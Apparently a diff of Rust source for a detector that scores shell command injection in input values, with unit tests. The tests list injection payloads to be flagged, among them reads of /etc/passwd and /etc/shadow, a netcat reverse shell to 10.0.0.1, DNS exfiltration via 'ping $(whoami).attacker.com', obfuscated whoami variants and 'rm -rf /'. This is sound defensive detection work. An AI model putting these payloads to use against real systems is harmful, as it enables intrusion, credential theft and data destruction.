+                format!("command '{name}' spelled as a glob")
+            }
+            How::Brace => {
+                score += 0.35;
+                format!("command '{name}' in a {{cmd,arg}} brace list")
+            }
+            How::Variable => {
+                score -= 0.1;
+                format!("variable expansion '{name}' as the command")
+            }
+        };
+        if let Some(wr) = wrapper {
+            cmd_desc.push_str(&format!(" (through '{wr}')"));
+        }
+        why.push(cmd_desc);
+
+        // Arguments.
+        let mut strong: Vec<&'static str> = Vec::new();
+        let (mut medium, mut plain, mut nargs) = (false, 0usize, 0usize);
+        let mut ifs = cmd.ifs;
+        let mut comment = false;
+        for t in &toks[ci + 1..seg_end] {
+            match t {
+                Tok::Word(a) => {
+                    nargs += 1;
+                    ifs |= a.ifs;
+                    let raw = self.src.get(a.start..a.end).unwrap_or("");
+                    let label = match arg_kind(a, raw) {
+                        ArgKind::Flag => Some("flag"),
+                        ArgKind::Path => Some("path"),
+                        ArgKind::Expansion => Some("expansion"),
+                        ArgKind::Glob => Some("glob"),
+                        ArgKind::Number | ArgKind::Host | ArgKind::File => {
+                            medium = true;
+                            None
+                        }
+                        ArgKind::Plain => {
+                            plain += 1;
+                            None
+                        }
+                        ArgKind::Other => None,
+                    };
+                    if let Some(l) = label {
+                        if !strong.contains(&l) {
+                            strong.push(l);
+                        }
+                    }
+                }
+                Tok::Redirect => {
+                    nargs += 1;
+                    if !strong.contains(&"redirection") {
+                        strong.push("redirection");
+                    }
+                }
+                Tok::Comment => {
+                    comment = true;
+                    break;
+                }
+                _ => {}
+            }
+        }
+        if ifs && !matches!(how, How::Obfuscated(_) | How::Glob | How::Brace) {
+            score += 0.35;
+            why.push("words split with $IFS".into());
+        }
+        if !strong.is_empty() {
+            score += (0.3 + 0.1 * (strong.len() - 1) as f32).min(0.45);
+            if medium {
+                score += 0.1;
+            }
+            why.push(format!("shell arguments ({})", strong.join(", ")));
+        } else if medium {
+            score += 0.15;
+            why.push("argument shaped like a number, host or file".into());
+        } else if ctx < 0.45 && plain >= 2 {
+            score -= 0.2;
+        } else if ctx < 0.45 && plain == 1 {
+            score -= 0.05;
+        }
+
+        // What ends the command.
+        let after = toks.get(seg_end);
+        let glued_terminator = matches!(
+            after,
+            Some(Tok::Sep {
+                space_before: false,
+                ..
+            })
+        );
+        let last_tail_quote = match toks[ci..seg_end]
+            .iter()
+            .rev()
+            .find(|t| matches!(t, Tok::Word(_)))
+        {
+            Some(Tok::Word(w)) => w.tail_quote,
+            _ => false,
+        };
+        if nargs == 0 {
+            if comment || glued_terminator || last_tail_quote {
+                score += 0.2;
+                why.push("then a terminator".into());
+            } else if after.is_none() {
+                score += 0.1;
+                why.push("ending the value".into());
+            }
+        } else if comment || glued_terminator || last_tail_quote {
+            score += 0.1;
+            why.push("then a terminator".into());
+        }
+        if self.table_row {
+            score -= 0.3;
+        }
+        if matches!(op, Opener::Subst { weak: true, .. }) {
+            // A markdown code span never flags by itself, whatever it contains.
+            score = score.min(THRESHOLD - 0.05);
+        }
+        Some(Cand {
+            scored: Scored {
+                score,
+                evidence: why.join(", "),
+            },
+            sep,
+            seg_end,
+        })
+    }
+
+    /// The command word of the segment starting at `i`, looking through wrappers
+    /// (`sudo`, `nohup`, `env A=b`, `time`).
+    fn resolve_at(
+        &mut self,
+        toks: &[Tok],
+        i: usize,
+        seg_end: usize,
+    ) -> Option<(usize, String, How, Option<String>)> {
+        let mut j = i;
+        let mut wrapper: Option<(usize, String, How)> = None;
+        let mut wrapper_name: Option<String> = None;
+        for _ in 0..4 {
+            if j >= seg_end {
+                break;
+            }
+            let Some(Tok::Word(w)) = toks.get(j) else {
+                break;
+            };
+            if builtins::WRAPPERS.contains(&w.text.as_str()) {
+                if wrapper.is_none() {
+                    wrapper = self.resolve(w).map(|(n, h)| (j, n, h));
+                    wrapper_name = Some(w.text.clone());
+                }
+                j += 1;
+                while j < seg_end {
+                    match toks.get(j) {
+                        Some(Tok::Word(x)) if x.text.starts_with('-') || is_assignment(&x.text) => {
+                            j += 1
+                        }
+                        _ => break,
+                    }
+                }
+                continue;
+            }
+            if let Some((n, h)) = self.resolve(w) {
+                return Some((j, n, h, wrapper_name));
+            }
+            break;
+        }
+        wrapper.map(|(j, n, h)| (j, n, h, None))
+    }
+
+    fn resolve(&mut self, w: &Word) -> Option<(String, How)> {
+        let text = w.text.as_str();
+        if text.is_empty() {
+            return None;
+        }
+        if let Some(inner) = text.strip_prefix('{').and_then(|t| t.strip_suffix('}')) {
+            let first = inner.split(',').next().filter(|_| inner.contains(','))?;
+            let (name, _) = self.lookup(first)?;
+            return Some((name, How::Brace));
+        }
+        if let Some(var) = text.strip_prefix('$') {
+            let ok = w.var
+                && var
+                    .bytes()
+                    .next()
+                    .is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
+                && !var.starts_with("IFS");
+            return ok.then(|| (text.to_string(), How::Variable));
+        }
+        let (name, how) = self.lookup(text)?;
+        let obfuscation = if w.escaped {
+            Some("backslashes")
+        } else if w.split_by_quotes() {
+            Some("quotes")
+        } else if w.caret {
+            Some("carets")
+        } else if w.hidden_expansion {
+            Some("empty expansions")
+        } else {
+            None
+        };
+        match (obfuscation, how) {
+            (Some(o), How::Plain | How::AbsPath) => Some((name, How::Obfuscated(o))),
+            _ => Some((name, how)),
+        }
+    }
+
+    /// A command name, an absolute path to one, or a glob matching one.
+    fn lookup(&mut self, text: &str) -> Option<(String, How)> {
+        let wildcards = text.bytes().filter(|&c| c == b'?' || c == b'*').count();
+        if let Some(p) = text.rfind('/') {
+            if !text.starts_with('/') {
+                return None;
+            }
+            let base = &text[p + 1..];
+            if wildcards > 0 {
+                let literal = base.bytes().any(|c| c.is_ascii_alphanumeric());
+                return if literal {
+                    self.glob(base).map(|n| (n, How::Glob))
+                } else {
+                    None
+                };
+            }
+            return self
+                .det
+                .known(base)
+                .then(|| (base.to_string(), How::AbsPath));
+        }
+        if wildcards > 0 {
+            // Prose ends questions with "?": only inner wildcards with two letters count.
+            let letters = text.bytes().filter(|c| c.is_ascii_alphabetic()).count();
+            let inner = !text.ends_with('?') || wildcards >= 2;
+            return if letters >= 2 && inner {
+                self.glob(text).map(|n| (n, How::Glob))
+            } else {
+                None
+            };
+        }
+        self.det.known(text).then(|| (text.to_string(), How::Plain))
+    }
+
+    fn glob(&mut self, pattern: &str) -> Option<String> {
+        if self.globs >= MAX_GLOBS || pattern.len() > 64 {
+            return None;
+        }
+        self.globs += 1;
+        self.det.glob(pattern)
+    }
+}
+
+fn is_keyword(text: &str) -> bool {
+    builtins::KEYWORDS.contains(&text)
+}
+
+/// `NAME=value` (shell assignment, also how query parameters look).
+fn is_assignment(text: &str) -> bool {
+    match text.find('=') {
+        Some(p) if p > 0 => {
+            let name = &text[..p];
+            name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+                && !name.as_bytes()[0].is_ascii_digit()
+        }
+        _ => false,
+    }
+}
+
+/// First argument that shows the "command" is a variable in a programming language.
+fn is_code_operator(text: &str) -> bool {
+    matches!(
+        text,
+        "=" | "==" | "===" | "+=" | "-=" | "=>" | ":=" | ":" | "!="
+    ) || text.starts_with('.') && text.len() > 1 && text.as_bytes()[1].is_ascii_alphabetic()
+}
+
+fn arg_kind(w: &Word, raw: &str) -> ArgKind {
+    if !w.substs.is_empty() || w.var || w.hidden_expansion {
+        return ArgKind::Expansion;
+    }
+    let t = w.text.as_str();
+    let b = t.as_bytes();
+    if b.is_empty() {
+        return ArgKind::Other;
+    }
+    if t.len() <= 40
+        && b[0] == b'-'
+        && (b.get(1).is_some_and(|c| c.is_ascii_alphabetic())
+            || (b.get(1) == Some(&b'-') && b.get(2).is_some_and(|c| c.is_ascii_alphanumeric())))
+    {
+        return ArgKind::Flag;
+    }
+    let rb = raw.as_bytes();
+    let drive = rb.len() > 2
+        && rb[0].is_ascii_alphabetic()
+        && rb[1] == b':'
+        && matches!(rb[2], b'\\' | b'/');
+    if t.starts_with('/')
+        || t.starts_with("~/")
+        || t == "~"
+        || t.starts_with("./")
+        || t.starts_with("../")
+        || t == "."
+        || t == ".."
+        || drive
+        || raw.starts_with("\\\\")
+    {
+        return ArgKind::Path;
+    }
+    if t.contains(['*', '?']) && t.contains(['/', '.']) {
+        return ArgKind::Glob;
+    }
+    if is_number(t) {
+        return ArgKind::Number;
+    }
+    if is_host(t) || t.contains("://") {
+        return ArgKind::Host;
+    }
+    if let Some((stem, ext)) = t.rsplit_once('.') {
+        let file = !stem.is_empty()
+            && (1..=5).contains(&ext.len())
+            && ext.bytes().all(|c| c.is_ascii_alphanumeric())
+            && ext.bytes().any(|c| c.is_ascii_alphabetic())
+            && !t.contains(char::is_whitespace);
+        if file {
+            return ArgKind::File;
+        }
+    }
+    if is_prose_word(t) {
+        ArgKind::Plain
+    } else {
+        ArgKind::Other
+    }
+}
+
+fn is_number(t: &str) -> bool {
+    !t.is_empty()
+        && t.len() <= 20
+        && t.bytes().next().is_some_and(|c| c.is_ascii_digit())
+        && t.bytes()
+            .all(|c| c.is_ascii_digit() || c == b'.' || c == b',')
+        && t.bytes().filter(|&c| c == b'.' || c == b',').count() <= 1
+}
+
+/// An IPv4 address or a host name (`a.b`, last label alphabetic), optionally with a port.
+fn is_host(t: &str) -> bool {
+    let host = match t.rsplit_once(':') {
+        Some((h, port)) if !port.is_empty() && port.bytes().all(|c| c.is_ascii_digit()) => h,
+        _ => t,
+    };
+    if host.len() > 253 || !host.contains('.') {
+        return false;
+    }
+    let labels: Vec<&str> = host.split('.').collect();
+    let label_ok = |l: &&str| {
+        !l.is_empty() && l.len() <= 63 && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
+    };
+    if !labels.iter().all(label_ok) {
+        return false;
+    }
+    let ipv4 = labels.len() == 4
+        && labels
+            .iter()
+            .all(|l| l.len() <= 3 && l.bytes().all(|c| c.is_ascii_digit()));
+    let last = labels.last().copied().unwrap_or("");
+    ipv4 || (last.len() >= 2 && last.bytes().all(|c| c.is_ascii_alphabetic()))
+}
+
+/// A word of prose: letters with inner apostrophes or hyphens and trailing punctuation.
+fn is_prose_word(t: &str) -> bool {
+    let core = t.trim_end_matches(['.', ',', '!', '?', ':', ')']);
+    !core.is_empty()
+        && core.chars().next().is_some_and(char::is_alphabetic)
+        && core
+            .chars()
+            .all(|c| c.is_alphabetic() || matches!(c, '\'' | '-' | '\u{2019}'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn det() -> CmdiDetector {
+        CmdiDetector::with_commands([
+            "ls", "cat", "id", "whoami", "ping", "sleep", "uname", "paste", "date", "time", "echo",
+            "wget", "curl", "nc", "grep", "sort", "more", "file", "who", "find", "sh", "bash",
+            "cut", "python3", "set", "cd", "kill", "head", "type",
+        ])
+    }
+
+    fn flagged(text: &str) -> bool {
+        det().inspect(text).is_some()
+    }
+
+    #[track_caller]
+    fn attack(text: &str) {
+        let f = det().inspect(text);
+        assert!(f.is_some(), "missed attack {text:?}");
+        let f = f.unwrap_or_else(|| Finding::new(Check::Cmdi, 0.0, ""));
+        assert_eq!(f.check, Check::Cmdi);
+        assert!(
+            (THRESHOLD..=1.0).contains(&f.score),
+            "{text:?}: score {}",
+            f.score
+        );
+        assert!(!f.evidence.is_empty());
+    }
+
+    #[track_caller]
+    fn benign(text: &str) {
+        let f = det().inspect(text);
+        assert!(f.is_none(), "false positive on {text:?}: {f:?}");
+    }
+
+    #[test]
+    fn separators_at_start_or_glued() {
+        for t in [
+            ";id",
+            "; id",
+            "x|id",
+            "a;id",
+            "1;ls -la",
+            "|id",
+            "||id|",
+            "&& ls",
+            "& ls -l /",
+        ] {
+            attack(t);
+        }
+    }
+
+    #[test]
+    fn prefixes_that_are_not_prose() {
+        for t in [
+            "127.0.0.1; ls",
+            "127.0.0.1 && cat /etc/passwd",
+            "example.com | id",
+            "8.8.8.8;sleep 5",
+            "\";id",
+            "';id;'",
+            "\"; whoami #",
+            "a)|id",
+            "x=;id",
+        ] {
+            attack(t);
+        }
+    }
+
+    #[test]
+    fn substitutions() {
+        for t in [
+            "$(id)",
+            "`id`",
+            "x`whoami`",
+            "$(`whoami`)",
+            "ping $(whoami).attacker.com",
+            "; echo `id`",
+            "<(id)",
+            "name=$(cat /etc/passwd)",
+        ] {
+            attack(t);
+        }
+    }
+
+    #[test]
+    fn obfuscation() {
+        for t in [
+            ";w'h'o'am'i",
+            ";c\\at /etc/passwd",
+            ";cat${IFS}/etc/passwd",
+            ";cat$IFS/etc/passwd",
+            ";{cat,/etc/passwd}",
+            ";/???/??t /etc/passwd",
+            ";who$@ami",
+            "x;w\"ho\"ami",
+            "& w^h^o^a^m^i",
+        ] {
+            attack(t);
+        }
+    }
+
+    #[test]
+    fn absolute_paths_and_wrappers() {
+        for t in [
+            "foo;/bin/cat /etc/passwd",
+            "abc|/usr/bin/id",
+            "; sudo cat /etc/shadow",
+            "; nohup nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            attack(t);
+        }
+    }
+
+    #[test]
+    fn prose_prefix_needs_shell_arguments() {
+        attack("hello;cat /etc/passwd");
+        attack("search; ls -la /tmp");
+        attack("abc; ping -c 3 10.0.0.1");
+        benign("hello; cat food is great");
+        benign("Hello; sort by date, please.");
+    }
+
+    #[test]
+    fn english_passes() {
+        for t in [
+            "copy & paste",
+            "Tom & Jerry",
+            "time | date",
+            "rock & roll",
+            "this; that",
+            "Q&A",
+            "R&D",
+            "AT&T",
+            "salt & pepper",
+            "ls",
+            "cat",
+            "copy&paste",
+            "He left; who cares",
+            "Terms & Conditions | Help",
+            "Home | About | Contact",
+            "| date | time |",
+            "Fish & chips (cat friendly)",
+            "O'Brien & Sons",
+            "Tom&nbsp;&amp;&nbsp;Jerry",
+            "Page 2 | more",
+            "see attached; file is large",
+            "a=1&b=2&id=3",
+            "Price: $5 & $10",
+        ] {
+            benign(t);
+        }
+    }
+
+    #[test]
+    fn pasted_code_passes() {
+        for t in [
+            "var a = 1; return a;",
+            "print(x); exit()",
+            "x = 1; date = new Date();",
+            "items.sort(); file.close()",
+            "$(document).ready(function() { init(); });",
+            "$('#id').hide();",
+            "if (a && b) { run(); }",
+            "Run `flask run` to start the server",
+            "Use the `ls -la` command to list files",
+        ] {
+            benign(t);
+        }
+    }
+
+    #[test]
+    fn prefilter_skips_values_without_shell_bytes() {
+        assert!(!flagged("cat /etc/passwd"));
+        assert!(!flagged("w'h'o'am'i"));
+        assert!(!flagged("a < b and c > d"));
+    }
+
+    #[test]
+    fn evidence_names_separator_command_and_reason() {
+        let f = det().inspect("127.0.0.1;cat /etc/passwd");
+        let e = f.map(|f| f.evidence).unwrap_or_default();
+        assert!(e.contains("';'"), "{e}");
+        assert!(e.contains("'cat'"), "{e}");
+        assert!(e.contains("after an address"), "{e}");
+        assert!(e.contains("path"), "{e}");
+    }
+
+    #[test]
+    fn unknown_commands_do_not_count() {
+        benign(";notacommand");
+        benign("; rm -rf /"); // rm is not in this test detector's list
+        attack("; ls -la");
+    }
+
+    #[test]
+    fn hostile_inputs_are_bounded_and_do_not_panic() {
+        let deep = "$(".repeat(10_000);
+        let _ = det().inspect(&deep);
+        let ticks = "`".repeat(10_001);
+        let _ = det().inspect(&ticks);
+        let seps = ";".repeat(100_000);
+        assert!(det().inspect(&seps).is_none());
+        let mixed = "é;'\"\\$`(){}|&\n#".repeat(5_000);
+        let _ = det().inspect(&mixed);
+        let globs = ";/???/??t ".repeat(2_000);
+        let _ = det().inspect(&globs);
+        let _ = det().inspect("$");
+        let _ = det().inspect("${");
+        let _ = det().inspect("$((");
+        let _ = det().inspect("&#");
+        let _ = det().inspect("\\");
+        let _ = det().inspect(";\\");
+        let _ = det().inspect("'");
+    }
+
+    #[test]
+    fn glob_matching() {
+        assert!(glob_match(b"??t", b"cat"));
+        assert!(glob_match(b"c*", b"cat"));
+        assert!(glob_match(b"*a*", b"cat"));
+        assert!(!glob_match(b"??t", b"cats"));
+        assert!(!glob_match(b"d*", b"cat"));
+    }
+
+    #[test]
+    fn from_env_finds_commands_on_path_and_builtins() {
+        let d = CmdiDetector::from_env();
+        assert!(d.knows("echo") && d.knows("cd"), "builtins");
+        assert!(d.knows("DIR"), "cmd.exe builtins ignore case");
+        assert!(!d.knows("return") && !d.knows("x"));
+        // sh exists on every POSIX machine that runs the tests.
+        if cfg!(unix) {
+            assert!(
+                d.knows("sh"),
+                "PATH scan found no sh; PATH={:?}",
+                std::env::var("PATH")
+            );
+        }
+    }
+
+    #[test]
+    fn path_scan_is_capped() {
+        let mut set = HashSet::new();
+        if let Some(path) = std::env::var_os("PATH") {
+            scan_path(&path, 3, &mut set);
+        }
+        assert!(set.len() <= 3);
     }
 }
